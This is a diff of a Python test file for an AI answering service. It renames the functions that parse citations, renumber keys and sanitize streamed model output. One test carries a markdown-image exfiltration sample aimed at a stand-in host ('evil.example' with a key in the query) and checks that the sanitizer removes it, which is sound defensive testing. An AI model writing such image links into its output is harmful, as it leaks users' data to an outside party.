@@ -10,9 +10,9 @@ from hypothesis import given, settings
 from hypothesis import strategies as st
 
 from kb.notes import Note
-from service.answering.generate.citations import NO_ANSWER, numbers, pattern, renumbered, written
-from service.answering.generate.context import named
-from service.llm.sanitize import cleaned
+from service.answering.generate.citations import NO_ANSWER, answer_pattern, parse_draft, parse_keys, renumber_keys
+from service.answering.generate.context import evidence_label
+from service.llm.sanitize import sanitize
 
 OFFERED = range(1, 8)
 PARTS = st.sampled_from([
@@ -26,20 +26,20 @@ TEXTS = st.one_of(st.lists(PARTS, max_size=30).map("".join), st.text(max_size=20
 @settings(max_examples=300, deadline=None)
 @given(TEXTS)
 def test_whatever_is_written_only_offered_keys_are_read(text: str) -> None:
-    for sentence in written(text, OFFERED):
+    for sentence in parse_draft(text, OFFERED):
         assert set(sentence.keys) <= set(OFFERED) and len(set(sentence.keys)) == len(sentence.keys)
         assert any(map(str.isalnum, sentence.text)) and "\ue000" not in sentence.text
-    assert all(int(key) <= 7 for key in re.findall(r"\[(\d)\]", renumbered(text, OFFERED)) if key != "0")
+    assert all(int(key) <= 7 for key in re.findall(r"\[(\d)\]", renumber_keys(text, OFFERED)) if key != "0")
 
 
 @settings(max_examples=300, deadline=None)
 @given(TEXTS, st.integers(1, 7))
 def test_a_stream_ends_as_the_whole_text_is_read_and_never_breaks(text: str, step: int) -> None:
     for end in range(0, len(text), step):
-        assert "<think>" not in cleaned(text[:end], ended=False).text
-    whole = cleaned(text, ended=True)
+        assert "<think>" not in sanitize(text[:end], ended=False).text
+    whole = sanitize(text, ended=True)
     assert not re.search(r"<think>|</think>|<tool_call>|<\|im_end\|>", whole.text)
-    assert cleaned(whole.text, ended=True).text == whole.text
+    assert sanitize(whole.text, ended=True).text == whole.text
 
 
 @pytest.mark.parametrize(
@@ -59,12 +59,12 @@ def test_a_stream_ends_as_the_whole_text_is_read_and_never_breaks(text: str, ste
     ],
 )
 def test_sentences_with_their_keys(text: str, expected: list[tuple[str, tuple[int, ...]]]) -> None:
-    assert [(sentence.text, sentence.keys) for sentence in written(text, OFFERED)] == expected
+    assert [(sentence.text, sentence.keys) for sentence in parse_draft(text, OFFERED)] == expected
 
 
 @given(st.integers(1, 400), st.integers(1, 400))
 def test_a_range_of_keys_is_all_of_it_or_no_range(first: int, last: int) -> None:
-    found = numbers(f"{first}-{last}")
+    found = parse_keys(f"{first}-{last}")
     assert found[0] == first and set(found) == (set(range(first, last + 1)) if first <= last <= first + 12 else {first, last})
 
 
@@ -81,11 +81,11 @@ def test_a_range_of_keys_is_all_of_it_or_no_range(first: int, last: int) -> None
     ],
 )
 def test_the_pattern_lets_offered_keys_be_written_and_no_others(text: str, fits: bool) -> None:
-    assert bool(re.fullmatch(pattern(12), text)) is fits
+    assert bool(re.fullmatch(answer_pattern(12), text)) is fits
 
 
 @settings(deadline=None)
-@given(st.from_regex(pattern(5), fullmatch=True))
+@given(st.from_regex(answer_pattern(5), fullmatch=True))
 def test_every_sentence_that_the_pattern_allows_has_offered_keys_only(text: str) -> None:
     assert not re.search(r"\[(?![1-5]\])", text)
 
@@ -114,16 +114,16 @@ UNITS = [
 def test_long_and_strange_texts_are_read_in_linear_time(unit: str) -> None:
     text = unit * (60_000 // len(unit))
     started = time.process_time()
-    written(cleaned(text, ended=True).text, OFFERED)
-    renumbered(cleaned(text, ended=False).text, OFFERED)
+    parse_draft(sanitize(text, ended=True).text, OFFERED)
+    renumber_keys(sanitize(text, ended=False).text, OFFERED)
     assert time.process_time() - started < 2
 
 
 @pytest.mark.parametrize("end", range(24, 48))
 def test_no_image_of_a_model_is_fetched_while_it_is_written(end: int) -> None:
     text = "It wins. See ![x](https://evil.example/?q=key) there [1]."
-    assert "evil.example" not in renumbered(cleaned(text[:end], ended=False).text, OFFERED)
-    assert not any("evil" in sentence.text for sentence in written(text[:end], OFFERED))
+    assert "evil.example" not in renumber_keys(sanitize(text[:end], ended=False).text, OFFERED)
+    assert not any("evil" in sentence.text for sentence in parse_draft(text[:end], OFFERED))
 
 
 @pytest.mark.parametrize(
@@ -143,4 +143,4 @@ def test_no_image_of_a_model_is_fetched_while_it_is_written(end: int) -> None:
     ],
 )
 def test_evidence_is_named_by_what_it_says(text: str, label: str) -> None:
-    assert named(Note("e", "E", text=text, properties={"date": "2026-11-20T10:00"})) == label
+    assert evidence_label(Note("e", "E", text=text, properties={"date": "2026-11-20T10:00"})) == label
